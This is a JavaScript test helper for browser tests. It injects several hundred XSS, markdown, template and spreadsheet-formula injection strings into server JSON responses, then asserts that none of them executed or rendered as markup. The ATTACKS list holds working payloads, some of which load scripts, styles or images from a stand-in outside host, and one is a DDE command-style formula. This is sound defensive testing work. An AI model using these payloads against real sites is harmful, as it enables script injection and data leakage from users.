// Texts that are scripts, markup, formulas or addresses elsewhere; ways to put them into answers of the server;
// and what tells if one of them was more than a text.
import assert from 'node:assert/strict'

const ATTACKS = [
  '<script>alert(1)</script>',
  '<script src=http://198.51.100.1/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src=http://198.51.100.1/x.png>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="http://198.51.100.1/x.svg#x"/></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="http://198.51.100.1/"><button formaction="javascript:alert(1)">x',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<link rel=stylesheet href=http://198.51.100.1/x.css>',
  '<meta http-equiv=refresh content="0;url=http://198.51.100.1/">',
  '<base href=http://198.51.100.1/>',
  '<style>@import "http://198.51.100.1/x.css"; * { background: url(http://198.51.100.1/x) }</style>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](http://198.51.100.1/?rows=1)',
  '![x](http://198.51.100.1/x.png)',
  '<http://198.51.100.1/x>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '=HYPERLINK("http://198.51.100.1/","x")',
  '@SUM(1+1)*cmd|x',
  '\u202Eleft\u202C zero\u200Bwidth \uFEFF mark',
  '__proto__',
]

// Ways out of the places that a text may stand in.
const AROUND = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</textarea></title></style></script>${text}`,
  (text) => `-->]]>${text}`,
  (text) => `" onmouseover="alert(1)" x="${text}`,
  (text) => `\`\`\`\n${text}\n\`\`\``,
  (text) => `[${text}](${text})`,
  (text) => `| a | b |\n|---|---|\n| ${text} | x |`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => encodeURIComponent(text),
  (text) => text.toUpperCase(),
  (text) => text.split('').join('\u200B'),
]

/** More than 400 hostile texts. */
export const HOSTILE = ATTACKS.flatMap((text) => AROUND.map((around) => around(text)))

/** Makes the page note scripts that run and what its policy refuses. Comes before the first page. */
export const watchScripts = (page) =>
  page.addInitScript(() => {
    globalThis.ran = []
    for (const name of ['alert', 'confirm', 'prompt', 'open']) globalThis[name] = (...words) => globalThis.ran.push([name, ...words])
    document.addEventListener('securitypolicyviolation', (event) => globalThis.ran.push(['policy', event.violatedDirective, event.blockedURI]))
  })

/** Asserts that all texts stayed texts. */
export async function nothingRan(page) {
  assert.deepEqual(await page.evaluate(() => globalThis.ran), [])
  assert.doesNotMatch(await page.title(), /^run/)
  const made = page.locator('#console :is(script, style, link, meta, base, iframe, img:not(.cm-widgetBuffer), object, embed, video, math, form[action], a[href^="javascript:" i], a[href*="198.51.100.1"], [onmouseover])')
  assert.deepEqual(await made.evaluateAll((all) => all.map((element) => element.outerHTML.slice(0, 200))), [])
}

/**
 * Changes the answers of some paths: `list` gets an item for each hostile text, made of its first one, and the
 * texts stand in all `members` of these names.
 */
export async function poison(page, path, list, members) {
  await page.route(path, async (route) => {
    const response = await route.fetch()
    if (response.headers()['content-type'] !== 'application/json') return route.fulfill({ response })
    return route.fulfill({ response, json: poisoned(await response.json(), list, new Set(members)) })
  })
}

function poisoned(answer, list, members) {
  let count = 0
  const change = (value, name) => {
    if (Array.isArray(value)) {
      const isLong = name === list && value.length > 0
      const items = isLong ? HOSTILE.map((_, at) => ('id' in value[0] ? { ...value[0], id: `${value[0].id}-${at}` } : value[0])) : value
      return items.map((item) => change(item, name))
    }
    if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, change(inner, name)]))
    const isText = typeof value === 'string' || value === null
    return isText && members.has(name) ? HOSTILE[count++ % HOSTILE.length] : value
  }
  return change(answer, '')
}
